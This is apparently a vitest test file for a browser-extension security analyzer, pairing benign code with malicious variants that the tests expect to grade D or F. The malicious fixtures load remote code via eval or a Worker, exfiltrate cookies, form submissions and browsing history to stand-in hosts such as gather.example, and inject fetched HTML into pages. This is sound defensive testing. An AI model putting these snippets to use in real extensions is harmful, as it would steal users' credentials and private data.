import { describe, expect, it } from 'vitest';
import { analyze } from '../analyze.ts';
import { memoryTree } from '../sources/memory.ts';

/*
 * What is the extension's own, the page's own or the person's own is no stranger's, each beside what is.
 */

const NOTES = {
  manifest_version: 3,
  name: 'Notes',
  version: '1',
  permissions: ['storage'],
  host_permissions: ['<all_urls>'],
};

async function grade(manifest: object, files: Readonly<Record<string, string>>): Promise<string> {
  const all = { 'manifest.json': JSON.stringify({ ...NOTES, ...manifest }), ...files };
  return (await analyze(memoryTree(all), { kind: 'extension' })).score.grade;
}

const BACKGROUND = { background: { service_worker: 'background.js' } };
const onPages = (...js: string[]) => ({ content_scripts: [{ matches: ['<all_urls>'], js }] });

describe('files of the package', () => {
  const worker = (address: string): string =>
    `fetch(${address}).then((r) => r.text()).then((t) => new Worker(URL.createObjectURL(new Blob([t]))));`;
  const patch = 'const before = window.fetch; window.fetch = (...args) => before(...args);';

  it('stay that where some script puts a function of its own in place of `fetch`', async () => {
    const own = { 'background.js': worker("chrome.runtime.getURL('encode.js')"), 'patch.js': patch, 'encode.js': '' };
    expect(await grade(BACKGROUND, own)).toMatch(/^A/);
    const foreign = { ...own, 'background.js': worker("'https://code.example/encode.js'") };
    expect(await grade(BACKGROUND, foreign)).toMatch(/[DF]/);
  });

  it('are told by where the script itself lies', async () => {
    const load = (start: string): string =>
      `async function build() { show(await import(${start} + '/lists.js')); } build();`;
    expect(await grade(BACKGROUND, { 'background.js': '', 'dev/build.js': load('__dirname') })).toMatch(/^A/);
    expect(await grade(onPages('one.js'), { 'one.js': load("'https://code.example'") })).toMatch(/[DF]/);
  });

  it('hold templates that no browser runs', async () => {
    const page = (type: string): string => `<script ${type} src="row.htm"></script>`;
    const files = { 'background.js': '', 'row.htm': 'run()' };
    expect(await grade(BACKGROUND, { ...files, 'page.html': page('type="text/template"') })).toMatch(/^A/);
    expect(await grade(BACKGROUND, { ...files, 'page.html': page('type="module"') })).toMatch(/[CDF]/);
  });

  it('are what a list of names asks for', async () => {
    const put = (names: string): string =>
      `let code = ''; const files = [${names}]; for (let n = 0; n < files.length; n++) code += $.ajax({ url: files[n], async: false }).responseText; chrome.tabs.executeScript({ code });`;
    expect(await grade(BACKGROUND, { 'background.js': put("'js/one.js', 'js/two.js'") })).toMatch(/^A/);
    expect(await grade(BACKGROUND, { 'background.js': put("'js/one.js', 'https://code.example/two.js'") })).toMatch(
      /[DF]/,
    );
  });

  it('put their data into code between quotes', async () => {
    const draw = (hole: string): string =>
      `fetch(chrome.runtime.getURL('bell.svg')).then((r) => r.text()).then((icon) => chrome.tabs.executeScript({ code: \`flip(${hole})\` }));`;
    expect(await grade(BACKGROUND, { 'background.js': draw("'${icon}'") })).toMatch(/^[AB]/);
    expect(await grade(BACKGROUND, { 'background.js': draw('${icon}') })).toMatch(/[CDF]/);
  });
});

describe('the page', () => {
  it('is the site whose address another script of it keeps', async () => {
    const send =
      "const u = new URL('/api/rows', SITE); fetch(u.href, { method: 'POST', body: localStorage.getItem('claim') });";
    const both = (site: string) => ({ 'one.js': `const SITE = ${site};`, 'two.js': send });
    expect(await grade(onPages('one.js', 'two.js'), both("location.origin + '/'"))).toMatch(/^A/);
    expect(await grade(onPages('one.js', 'two.js'), both("'https://gather.example/'"))).toMatch(/[CDF]/);
  });

  it('asks its own server by the requests whose methods a script replaces', async () => {
    const act =
      "fetch('/blocks', { method: 'POST', credentials: 'include', body: JSON.stringify(JSON.parse(ANSWER).who) });";
    const hook = `const open = XMLHttpRequest.prototype.open; XMLHttpRequest.prototype.open = function (...a) { this.addEventListener('load', function () { ${act.replace('ANSWER', 'this.responseText')} }); return open.apply(this, a); };`;
    const order = `fetch('https://orders.example/').then((r) => r.text()).then((t) => { ${act.replace('ANSWER', 't')} });`;
    expect(await grade(onPages('one.js'), { 'one.js': hook })).not.toMatch(/[DF]/);
    expect(await grade(onPages('one.js'), { 'one.js': order })).toMatch(/[DF]/);
  });
});

describe('the account that the person signs in to', () => {
  const send = (to: string): string =>
    `chrome.tabs.onUpdated.addListener((id, info, tab) => fetch('${to}', { method: 'POST', body: tab.url }));`;
  const sign = 'chrome.identity.getAuthToken({ interactive: true }, keep);';
  const TO = 'https://www.googleapis.com/upload/drive/v3/files';

  it('is theirs where the browser lets the extension in', async () => {
    expect(await grade(BACKGROUND, { 'background.js': sign + send(TO) })).toMatch(/^[AB]/);
  });
  it('is no other place, and none without that', async () => {
    expect(await grade(BACKGROUND, { 'background.js': sign + send('https://googleapis.example/') })).toBe('F');
    expect(await grade(BACKGROUND, { 'background.js': send(TO) })).toBe('F');
  });
});

describe('a token', () => {
  it('in the address that a sign-in ends at is the extension’s own', async () => {
    const own = (find: string): string => `function ended(address) { return ${find}.exec(address)[1]; }`;
    expect(await grade(BACKGROUND, { 'background.js': own('/access_token=([^&]+)/') })).toMatch(/^A/);
    expect(await grade(onPages('one.js'), { 'one.js': own('/"accessToken":"([^"]+)"/') })).not.toMatch(/^A/);
  });
});

describe('a form', () => {
  const client =
    'const client = { xsrfCookieName: "t", transformRequest: [(data) => new FormData(data)] }; const post = (data) => { for (const one of client.transformRequest) data = one(data); return fetch("https://api.example/", { method: "POST", body: data }); };';
  const own = 'const grab = (form) => navigator.sendBeacon("https://gather.example/", new FormData(form));';
  const sent = (what: string): Promise<string> => grade(onPages('one.js'), { 'one.js': `${client} ${own} ${what}` });

  it('is what stands in the page, beside a client of requests, too', async () => {
    expect(await sent('document.addEventListener("submit", (e) => grab(e.target));')).toBe('F');
    expect(await sent('Object.values(document.forms).forEach(grab);')).toBe('F');
    expect(await sent('HTMLFormElement.prototype.submit = function () { grab(this); };')).toBe('F');
  });
});

describe('cookies', () => {
  it('are read by a client of requests for its token against forged ones', async () => {
    const read = (name: string): string =>
      `const client = { ${name}: 'XSRF-TOKEN' }; cookieStore.get(client.${name}).then((c) => fetch('https://gather.example/', { method: 'POST', headers: { t: c.value } }));`;
    expect(await grade(onPages('one.js'), { 'one.js': read('xsrfCookieName') })).toMatch(/^A/);
    expect(await grade(onPages('one.js'), { 'one.js': read('cookie') })).toBe('F');
    // The background's own are not the page's.
    expect(await grade(BACKGROUND, { 'background.js': read('cookie') })).toMatch(/^A/);
  });

  it('are all taken by who holds such a client and reads others beside it', async () => {
    const client = (name: string): string =>
      `const jar = { read(key) { const all = document.cookie; for (const one of all.split(';')) if (one.startsWith(key)) return one; } }; const post = (options) => fetch('https://gather.example/', { method: 'POST', headers: { t: jar.read(${name}) } }); const options = { xsrfCookieName: 'XSRF-TOKEN' }; setInterval(() => post(options), 9000);`;
    const named = client('options.xsrfCookieName');
    expect(await grade(onPages('one.js'), { 'one.js': named })).toMatch(/^A/);
    expect(await grade(onPages('one.js'), { 'one.js': client("'session'") })).toBe('F');
    const all = `${named} fetch('https://gather.example/', { method: 'POST', body: document.cookie });`;
    expect(await grade(onPages('one.js'), { 'one.js': all })).toBe('F');
    const whole = named.replace('return one', 'return all');
    expect(await grade(onPages('one.js'), { 'one.js': `${whole} jar.read('session');` })).toBe('F');
  });

  it('may go back to the site of the tab that the extension opened', async () => {
    const take = (tab: string): string =>
      `async function ask() { const tab = await chrome.tabs.${tab}; const [{ result }] = await chrome.scripting.executeScript({ target: { tabId: tab.id }, func: () => document.cookie }); await fetch('https://api.mail.example/answer', { method: 'POST', headers: { token: result } }); } chrome.alarms.onAlarm.addListener(ask);`;
    const all = (code: string) =>
      grade({ ...BACKGROUND, permissions: ['scripting', 'alarms', 'tabs'] }, { 'background.js': code });
    expect(await all(take("create({ url: 'https://www.mail.example/404' })"))).toMatch(/^A/);
    expect(await all(take("create({ url: 'https://www.bank.example/' })"))).toMatch(/[DF]/);
    expect(await all(take('query({ active: true })'))).toMatch(/[DF]/);
    const opened = take("create({ url: 'https://www.mail.example/404' })");
    expect(await all(opened.replace('tabId: tab.id', 'tabId: wanted ?? tab.id'))).toMatch(/[DF]/);
    const shared = opened
      .replace('async function ask', 'const read = () => document.cookie; async function ask')
      .replace('func: () => document.cookie', 'func: read');
    expect(await all(shared)).toMatch(/^A/);
    const elsewhere = `async function more(id) { const [{ result }] = await chrome.scripting.executeScript({ target: { tabId: id }, func: read }); await fetch('https://api.mail.example/answer', { method: 'POST', headers: { token: result } }); } chrome.tabs.onUpdated.addListener(more);`;
    expect(await all(shared + elsewhere)).toMatch(/[DF]/);
  });
});

describe('what is kept', () => {
  it('under a name made at run time is not what begins otherwise', async () => {
    const send = (key: string): string =>
      `chrome.history.search({ text: '' }, (all) => all.forEach((one, n) => localStorage.setItem('column.' + n, one.url))); const at = Date.now() % 7; fetch('https://weather.example/?q=' + localStorage.getItem('${key}.' + at));`;
    const all = (code: string) => grade({ ...BACKGROUND, permissions: ['history'] }, { 'background.js': code });
    expect(await all(send('options'))).toMatch(/^A/);
    expect(await all(send('column'))).toMatch(/[DF]/);
  });

  it('is told apart in the properties of one object, too', async () => {
    const open = (name: string): string =>
      `const all = {}; for (let n = 1; n < 4; n++) fetch('https://lists.example/' + n).then((r) => r.text()).then((t) => { all['sites' + n] = t; }); chrome.webNavigation.onBeforeNavigate.addListener((d) => chrome.tabs.update(d.tabId, { url: all['${name}' + d.frameId] }));`;
    const permissions = { ...BACKGROUND, permissions: ['webNavigation', 'tabs'] };
    expect(await grade(permissions, { 'background.js': open('page') })).toMatch(/^A/);
    expect(await grade(permissions, { 'background.js': open('sites') })).toMatch(/[DF]/);
  });
});

describe('the server that the person chose', () => {
  const OPTIONS = { options_page: 'options.html' };
  const page = {
    'options.html': '<input id="server"><script src="options.js"></script>',
    'options.js': 'server.onchange = () => chrome.storage.sync.set({ server: server.value });',
  };
  const show = (from: string): string =>
    `chrome.storage.sync.get('server', async ({ server }) => { const r = await fetch(${from} + '/note'); box.innerHTML = await r.text(); document.body.append(box); });`;
  const on = (from: string) => ({ ...page, 'one.js': show(from) });

  it('may write into pages', async () => {
    expect(await grade({ ...onPages('one.js'), ...OPTIONS }, on('server'))).toMatch(/^[AB]/);
    expect(await grade({ ...onPages('one.js'), ...OPTIONS }, on("'https://slots.example'"))).toMatch(/[DF]/);
  });

  it('is theirs in a project whose manifest the build makes', async () => {
    const send =
      "chrome.cookies.getAll({}, (all) => chrome.storage.sync.get('server', ({ server }) => fetch(server + '/import', { method: 'POST', body: JSON.stringify(all) })));";
    const unbuilt = { 'wxt.config.ts': '', 'src/background.js': send };
    const of = async (files: Readonly<Record<string, string>>): Promise<string> =>
      (await analyze(memoryTree(files), { kind: 'extension' })).score.grade;
    expect(await of({ ...unbuilt, ...page })).toMatch(/^A/);
    expect(await of(unbuilt)).toMatch(/[CDF]/);
  });
});

describe('a project’s own tools', () => {
  it('are no part of the extension where nothing of it needs them', async () => {
    const load =
      "import fs from 'node:fs'; const r = await (await fetch('https://code.example/a.js')).text(); eval(r);";
    const project = { 'package.json': '{}', 'background.js': 'import "./lib/keep.js";' };
    expect(await grade(BACKGROUND, { ...project, 'scripts/client.js': load })).toMatch(/^A/);
    expect(await grade(BACKGROUND, { ...project, 'vite.config.js': load })).toMatch(/^A/);
    expect(await grade(BACKGROUND, { ...project, 'lib/keep.js': load })).toMatch(/[DF]/);
    const needed = { ...project, 'background.js': 'import "./scripts/keep.js";', 'scripts/keep.js': load };
    expect(await grade(BACKGROUND, needed)).toMatch(/[DF]/);
  });
});

describe('a part of an address', () => {
  const look = (taken: string): string =>
    `const found = ${taken}; if (found) fetch('https://lookup.example/?id=' + found[1]);`;
  const onAll = (taken: string) => grade(onPages('one.js'), { 'one.js': look(taken) });

  it('that can only be a number says which thing it is', async () => {
    expect(await onAll('location.href.match(/id(\\d+)/)')).toMatch(/^[AB]/);
    expect(await onAll('/\\/([0-9]{2,9})\\./.exec(document.URL)')).toMatch(/^[AB]/);
    expect(await onAll('location.href.match(/id(\\w+)/)')).toMatch(/[CDF]/);
    expect(await onAll('location.href.match(/id(.*\\d+)/)')).toMatch(/[CDF]/);
  });

  it('is not the whole text that was searched', async () => {
    const send = "const f = location.href.match(/id(\\d+)/); fetch('https://lookup.example/?id=' + f.input);";
    expect(await grade(onPages('one.js'), { 'one.js': send })).toMatch(/[CDF]/);
  });
});

describe('a tab', () => {
  const permissions = { ...BACKGROUND, permissions: ['tabs', 'storage'], homepage_url: 'https://helper.example' };
  const all = (code: string) => grade(permissions, { 'background.js': code });

  it('whose address was checked has the title of a page of that site', async () => {
    const tell = (check: string): string =>
      `const re = /^https:\\/\\/tasks\\.example\\/.*/; chrome.tabs.onUpdated.addListener((id, info, tab) => { const { url } = tab; if (${check}) fetch('https://api.helper.example/', { method: 'POST', body: tab.title }); });`;
    expect(await all(tell('url.match(re)'))).toMatch(/^[AB]/);
    expect(await all(tell('url.match(/./)'))).toMatch(/[CDF]/);
  });

  it('that was asked for by an address of the extension’s own shows nothing of the person', async () => {
    const send = (url: string): string =>
      `chrome.tabs.query({ url: ${url} }, (tabs) => fetch('https://count.example/', { method: 'POST', body: JSON.stringify(tabs) }));`;
    expect(await all(send("chrome.runtime.getURL('options.html') + '*'"))).toBe('A+');
    expect(await all(send("'*://*/*'"))).not.toBe('A+');
  });
});

describe('icons of sites', () => {
  const dial = (address: string): Promise<string> =>
    grade(
      { permissions: ['topSites'], chrome_url_overrides: { newtab: 'tab.html' } },
      {
        'tab.html': '<div id="all"></div><script src="tab.js"></script>',
        'tab.js': `chrome.topSites.get((list) => { for (const { url } of list) { const icon = new Image(); icon.src = \`${address}\${new URL(url).hostname}.ico\`; document.getElementById('all').append(icon); } });`,
      },
    );

  it('may be asked of a service for icons', async () => {
    expect(await dial('https://icons.duckduckgo.com/ip3/')).toMatch(/^A/);
    expect(await dial('https://icons.collect.example/ip3/')).toMatch(/[DF]/);
    expect(await dial('https://icons.duckduckgo.com.collect.example/ip3/')).toMatch(/[DF]/);
    // The service asks the host that stands there.
    expect(await dial('https://icons.duckduckgo.com/ip3/collect.example.')).toMatch(/[DF]/);
  });
});
